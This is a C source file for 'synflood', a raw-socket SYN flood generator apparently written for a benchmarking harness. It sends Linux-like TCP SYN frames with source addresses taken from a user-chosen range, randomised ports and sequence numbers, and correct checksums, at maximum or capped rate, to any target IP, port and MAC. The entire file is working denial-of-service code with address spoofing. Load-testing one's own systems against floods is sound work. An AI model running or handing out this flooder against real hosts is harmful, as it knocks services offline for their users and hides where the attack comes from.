/*
 * synflood: a SYN flood from a raw AF_PACKET socket, as fast as the
 * sending side allows (or at a given rate), for bench/synflood/run.sh.
 *
 * Each frame is Ethernet + IPv4 + TCP SYN with the options of Linux's SYN
 * (MSS 1460, SACK permitted, timestamps, NOP, window scale 7: 74 bytes), a
 * source address drawn from FIRST-LAST, a random source port (1024-65535),
 * ISN, IP id and TSval, and correct IP and TCP checksums: to the receiver
 * each is a new handshake from a real-looking client. Frames go out in
 * sendmmsg batches (PACKET_QDISC_BYPASS when the kernel takes it).
 *
 * usage: synflood IFACE DST_MAC DST_IP:PORT FIRST-LAST [-d SECONDS]
 *                 [-n COUNT] [-r PPS] [-b BATCH]
 *   -d  how long to send (default 10 s; 0: until -n or a signal)
 *   -n  stop after COUNT frames
 *   -r  at most PPS frames a second (default: as fast as possible)
 *   -b  frames per sendmmsg (default 64)
 * SIGINT or SIGTERM ends it early. Prints one JSON object on stdout:
 * {"frames": sent, "seconds": s, "pps": frames/s, "batch": b,
 *  "send_errors": failed sendmmsg calls, "first_error": "..."}.
 * Bad arguments: one line on stderr, exit 2; a socket that cannot be
 * opened or bound (not root, no such interface): exit 1.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
    ETH_LEN = 14,
    IP_LEN = 20,
    TCP_LEN = 40, /* 20 + MSS 4, SACK_PERM 2, TS 10, NOP 1, WS 3 */
    FRAME_LEN = ETH_LEN + IP_LEN + TCP_LEN,
    MAX_BATCH = 1024,
};

struct flood {
    uint8_t dst_mac[6], src_mac[6];
    uint32_t dst_ip;   /* network order */
    uint16_t dst_port; /* network order */
    uint32_t first, n; /* source addresses: first (host order), count */
    uint64_t rng;
};

static volatile sig_atomic_t stop;

static void
on_signal(int sig)
{
    (void)sig;
    stop = 1;
}

static double
now_s(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* xorshift64*: fast, and good enough for ports and sequence numbers. */
static uint64_t
rnd(struct flood *f)
{
    f->rng ^= f->rng >> 12;
    f->rng ^= f->rng << 25;
    f->rng ^= f->rng >> 27;
    return f->rng * 2685821657736338717ull;
}

/* Store a 16- or 32-bit value in network order at p (unaligned). */
#define PUT(p, v, bits)                                                        \
    do {                                                                       \
        uint##bits##_t be_ = hton##bits(v);                                    \
        memcpy((p), &be_, sizeof(be_));                                        \
    } while (0)
#define hton16 htons
#define hton32 htonl
#define put16(p, v) PUT(p, (uint16_t)(v), 16)
#define put32(p, v) PUT(p, (uint32_t)(v), 32)

/* The ones' complement sum of len bytes (len even) added to sum. */
static uint32_t
csum_add(uint32_t sum, const uint8_t *p, size_t len)
{
    for (size_t i = 0; i < len; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    return sum;
}

static uint16_t
csum_fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* The parts of a SYN that do not change from frame to frame. */
static void
frame_template(const struct flood *f, uint8_t *b)
{
    static const uint8_t opts[20] = {
        2, 4,  0x05, 0xb4,                   /* MSS 1460 */
        4, 2,                                /* SACK permitted */
        8, 10, 0,    0,    0, 0, 0, 0, 0, 0, /* TSval (per frame), TSecr 0 */
        1,                                   /* NOP */
        3, 3,  7,                            /* window scale 7 */
    };
    uint8_t *ip = b + ETH_LEN, *tcp = ip + IP_LEN;

    memset(b, 0, FRAME_LEN);
    memcpy(b, f->dst_mac, 6);
    memcpy(b + 6, f->src_mac, 6);
    put16(b + 12, ETHERTYPE_IP);
    ip[0] = 0x45;
    put16(ip + 2, IP_LEN + TCP_LEN);
    put16(ip + 6, 0x4000); /* DF, as Linux */
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    memcpy(ip + 16, &f->dst_ip, 4);
    memcpy(tcp + 2, &f->dst_port, 2);
    tcp[12] = (TCP_LEN / 4) << 4;
    tcp[13] = 0x02;         /* SYN */
    put16(tcp + 14, 64240); /* Linux's SYN window */
    memcpy(tcp + 20, opts, sizeof(opts));
}

/* Fill one frame's varying fields and checksums. */
static void
frame_fill(struct flood *f, uint8_t *b)
{
    uint8_t *ip = b + ETH_LEN, *tcp = ip + IP_LEN;
    uint64_t r1 = rnd(f), r2 = rnd(f);
    uint32_t src = f->first + (uint32_t)(r1 % f->n);
    uint32_t sum;

    put16(ip + 4, (uint16_t)(r1 >> 32));
    put32(ip + 12, src);
    put16(ip + 10, 0);
    put16(ip + 10, csum_fold(csum_add(0, ip, IP_LEN)));
    put16(tcp, (uint16_t)(1024 + (r1 >> 48) % (65536 - 1024)));
    put32(tcp + 4, (uint32_t)r2);              /* ISN */
    put32(tcp + 20 + 8, (uint32_t)(r2 >> 32)); /* TSval */
    put16(tcp + 16, 0);
    /* pseudo header: addresses, protocol, TCP length */
    sum = csum_add(0, ip + 12, 8) + IPPROTO_TCP + TCP_LEN;
    put16(tcp + 16, csum_fold(csum_add(sum, tcp, TCP_LEN)));
}

static int
parse_mac(const char *s, uint8_t *mac)
{
    unsigned int v[6];
    char end;

    if (sscanf(s, "%x:%x:%x:%x:%x:%x%c", &v[0], &v[1], &v[2], &v[3], &v[4],
               &v[5], &end) != 6)
        return -1;
    for (int i = 0; i < 6; i++) {
        if (v[i] > 255)
            return -1;
        mac[i] = (uint8_t)v[i];
    }
    return 0;
}

static int
parse_dst(const char *s, struct flood *f)
{
    char host[INET_ADDRSTRLEN];
    const char *colon = strrchr(s, ':');
    char *end;
    long port;

    if (!colon || (size_t)(colon - s) >= sizeof(host))
        return -1;
    memcpy(host, s, (size_t)(colon - s));
    host[colon - s] = '\0';
    port = strtol(colon + 1, &end, 10);
    if (*end || port < 1 || port > 65535 ||
        inet_pton(AF_INET, host, &f->dst_ip) != 1)
        return -1;
    f->dst_port = htons((uint16_t)port);
    return 0;
}

static int
parse_range(const char *s, struct flood *f)
{
    char lo[INET_ADDRSTRLEN];
    const char *dash = strchr(s, '-');
    struct in_addr a, b;

    if (!dash || (size_t)(dash - s) >= sizeof(lo))
        return -1;
    memcpy(lo, s, (size_t)(dash - s));
    lo[dash - s] = '\0';
    if (inet_pton(AF_INET, lo, &a) != 1 ||
        inet_pton(AF_INET, dash + 1, &b) != 1)
        return -1;
    if (ntohl(b.s_addr) < ntohl(a.s_addr))
        return -1;
    f->first = ntohl(a.s_addr);
    f->n = ntohl(b.s_addr) - f->first + 1;
    return 0;
}

/* A number in [lo, hi], or -1. */
static double
number(const char *s, double lo, double hi)
{
    char *end;
    double v;

    errno = 0;
    v = strtod(s, &end);
    if (errno || end == s || *end || v < lo || v > hi)
        return -1;
    return v;
}

static int
usage(const char *why)
{
    fprintf(stderr,
            "synflood: %s\nusage: synflood IFACE DST_MAC DST_IP:PORT "
            "FIRST-LAST [-d SECONDS] [-n COUNT] [-r PPS] [-b BATCH]\n",
            why);
    return 2;
}

/* The raw socket bound to the interface; f->src_mac from it. */
static int
open_socket(const char *ifname, struct flood *f, struct sockaddr_ll *sll)
{
    struct ifreq ifr;
    int one = 1, fd;

    fd = socket(AF_PACKET, SOCK_RAW, 0); /* protocol 0: receives nothing */
    if (fd < 0) {
        fprintf(stderr, "synflood: socket(AF_PACKET): %s\n", strerror(errno));
        return -1;
    }
    memset(&ifr, 0, sizeof(ifr));
    snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) {
        fprintf(stderr, "synflood: %s: %s\n", ifname, strerror(errno));
        close(fd);
        return -1;
    }
    memcpy(f->src_mac, ifr.ifr_hwaddr.sa_data, 6);
    memset(sll, 0, sizeof(*sll));
    sll->sll_family = AF_PACKET;
    sll->sll_ifindex = (int)if_nametoindex(ifname);
    sll->sll_halen = 6;
    memcpy(sll->sll_addr, f->dst_mac, 6);
    if (bind(fd, (struct sockaddr *)sll, sizeof(*sll)) < 0) {
        fprintf(stderr, "synflood: bind %s: %s\n", ifname, strerror(errno));
        close(fd);
        return -1;
    }
    /* Straight to the driver (a veth has no queue to skip anyway). */
    (void)setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
    return fd;
}

int
main(int argc, char **argv)
{
    static uint8_t frames[MAX_BATCH][FRAME_LEN];
    static struct iovec iov[MAX_BATCH];
    static struct mmsghdr msgs[MAX_BATCH];
    struct flood f = {0};
    struct sockaddr_ll sll;
    double dur = 10, pps = 0, count = 0, t0, t, next;
    uint64_t sent = 0, errs = 0;
    char first_err[128] = "";
    unsigned int batch = 64;
    int fd, opt;

    while ((opt = getopt(argc, argv, "d:n:r:b:")) != -1) {
        double v = number(optarg, 0, 1e15);

        if (v < 0)
            return usage("a number was expected");
        switch (opt) {
        case 'd':
            dur = v;
            break;
        case 'n':
            count = v;
            break;
        case 'r':
            pps = v;
            break;
        case 'b':
            if (v < 1 || v > MAX_BATCH)
                return usage("-b takes 1 to 1024");
            batch = (unsigned int)v;
            break;
        default:
            return usage("unknown option");
        }
    }
    if (argc - optind != 4)
        return usage("four arguments are needed");
    if (parse_mac(argv[optind + 1], f.dst_mac) < 0)
        return usage("DST_MAC is aa:bb:cc:dd:ee:ff");
    if (parse_dst(argv[optind + 2], &f) < 0)
        return usage("DST_IP:PORT is an IPv4 address and a port");
    if (parse_range(argv[optind + 3], &f) < 0)
        return usage("FIRST-LAST is a range of IPv4 addresses");
    if (getrandom(&f.rng, sizeof(f.rng), 0) != sizeof(f.rng) || !f.rng)
        f.rng = (uint64_t)time(NULL) | 1;
    fd = open_socket(argv[optind], &f, &sll);
    if (fd < 0)
        return 1;
    signal(SIGINT, on_signal);
    signal(SIGTERM, on_signal);
    for (unsigned int i = 0; i < batch; i++) {
        frame_template(&f, frames[i]);
        iov[i].iov_base = frames[i];
        iov[i].iov_len = FRAME_LEN;
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
    }
    t0 = next = now_s();
    for (t = t0; !stop && (dur == 0 || t - t0 < dur) &&
                 (count == 0 || (double)sent < count);
         t = now_s()) {
        unsigned int n = batch;
        int r;

        if (count > 0 && count - (double)sent < n)
            n = (unsigned int)(count - (double)sent);
        if (pps > 0) {
            /* pace by batches: the next one is due n / pps after this */
            if (t < next) {
                struct timespec ts = {0, (long)((next - t) * 1e9)};
                nanosleep(&ts, NULL);
                continue;
            }
            next += n / pps;
            if (next < t - 0.1) /* fell behind: do not burst to catch up */
                next = t;
        }
        for (unsigned int i = 0; i < n; i++)
            frame_fill(&f, frames[i]);
        r = sendmmsg(fd, msgs, n, 0);
        if (r < 0) {
            errs++;
            if (!first_err[0])
                snprintf(first_err, sizeof(first_err), "%s", strerror(errno));
            continue;
        }
        sent += (uint64_t)r;
    }
    t = now_s() - t0;
    printf(
        "{\"frames\": %llu, \"seconds\": %.3f, \"pps\": %.0f, \"batch\": %u, "
        "\"send_errors\": %llu, \"first_error\": \"%s\"}\n",
        (unsigned long long)sent, t, t > 0 ? (double)sent / t : 0.0, batch,
        (unsigned long long)errs, first_err);
    close(fd);
    return 0;
}
